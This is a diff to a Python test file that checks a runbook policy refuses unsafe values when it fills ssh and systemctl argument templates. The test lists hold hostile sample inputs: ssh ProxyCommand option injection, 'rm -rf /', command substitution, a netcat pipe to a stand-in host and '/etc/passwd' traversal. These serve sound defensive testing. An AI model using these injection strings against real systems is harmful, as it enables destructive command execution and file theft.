@@ -21,6 +21,7 @@ from serviceops.domain.event import (
     Response,
     ResponseRule,
     Runbook,
+    RunbookRefused,
     Severity,
     Significance,
     SignificanceRule,
@@ -87,8 +88,80 @@ def test_runbooks_run_only_allow_listed_commands_as_argument_lists() -> None:
         allowed_commands=["/usr/bin/systemctl"],
         runbooks={"restart": Runbook(argv=["/usr/bin/systemctl", "restart", "{service}"])},
     )
-    argv = policy.runbook_argv("restart", {"service": "mail; rm -rf /", "ci": "", "check": ""})
-    assert argv == ["/usr/bin/systemctl", "restart", "mail; rm -rf /"]
+    argv = policy.runbook_argv("restart", {"service": "mail.example", "ci": "", "check": ""})
+    assert argv == ["/usr/bin/systemctl", "restart", "mail.example"]
+
+
+SSH = EventPolicy(
+    allowed_commands=["/usr/bin/ssh"],
+    runbooks={
+        "restart": Runbook(argv=["/usr/bin/ssh", "{ci}", "systemctl", "restart", "{service}"]),
+        "probe": Runbook(argv=["/usr/bin/ssh", "ops@{ci}", "check", "--name={check}"]),
+    },
+)
+
+
+def filled(**given: str) -> dict[str, str]:
+    return {"service": "mail", "ci": "mx-1", "check": "QueueStuck"} | given
+
+
+@pytest.mark.parametrize(
+    "ci", ["-oProxyCommand=touch /tmp/x", "-oProxyCommand=id", "--help", "-", "-v"]
+)
+def test_a_value_that_starts_with_a_dash_refuses_the_runbook(ci: str) -> None:
+    """ssh (like most commands) takes an argument that starts with '-' as an option."""
+    with pytest.raises(RunbookRefused, match="ci") as refused:
+        SSH.runbook_argv("restart", filled(ci=ci))
+    assert repr(ci) in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "service",
+    [
+        "mail; rm -rf /",
+        "mail server",
+        "$(touch /tmp/x)",
+        "`id`",
+        "mail|nc evil 1",
+        "mail&",
+        "mail\nid",
+        "mail\n",
+        "mail\x00",
+        "'mail'",
+        "mail>out",
+        "mx-1/../../etc/passwd",
+        "mäil",
+        "",
+    ],
+)
+def test_a_value_with_spaces_or_shell_characters_refuses_the_runbook(service: str) -> None:
+    with pytest.raises(RunbookRefused, match="service"):
+        SSH.runbook_argv("restart", filled(service=service))
+
+
+def test_plain_names_fill_the_runbook_one_argument_each() -> None:
+    argv = SSH.runbook_argv("restart", filled(ci="db1.example.com:22", service="erp/api_2"))
+    assert argv == ["/usr/bin/ssh", "db1.example.com:22", "systemctl", "restart", "erp/api_2"]
+    argv = SSH.runbook_argv("probe", filled(ci="mx-1", check="http:mail-http"))
+    assert argv == ["/usr/bin/ssh", "ops@mx-1", "check", "--name=http:mail-http"]
+
+
+def test_a_known_catalogue_name_fills_the_runbook_though_it_looks_odd() -> None:
+    """`db..old` is a legal CMDB item name, but '..' is refused in names the alert brings
+    (they may end up in a path): the catalogue vouches for its own names."""
+    odd = filled(ci="db..old")
+    with pytest.raises(RunbookRefused):
+        SSH.runbook_argv("restart", odd)
+    argv = SSH.runbook_argv("restart", odd, known=frozenset({"db..old", "mail"}))
+    assert argv[1] == "db..old"
+
+
+def test_only_the_values_a_runbook_uses_are_vetted() -> None:
+    """A runbook that does not name {check} runs whatever text the check has."""
+    argv = SSH.runbook_argv("restart", filled(check="Disk usage > 90% on $(host)"))
+    assert argv[1:] == ["mx-1", "systemctl", "restart", "mail"]
+    with pytest.raises(RunbookRefused, match="check"):
+        SSH.runbook_argv("probe", filled(check="Disk usage > 90% on $(host)"))
 
 
 def decide_all(correlator: Correlator, events: list[EventIn], start: datetime = T0) -> None:
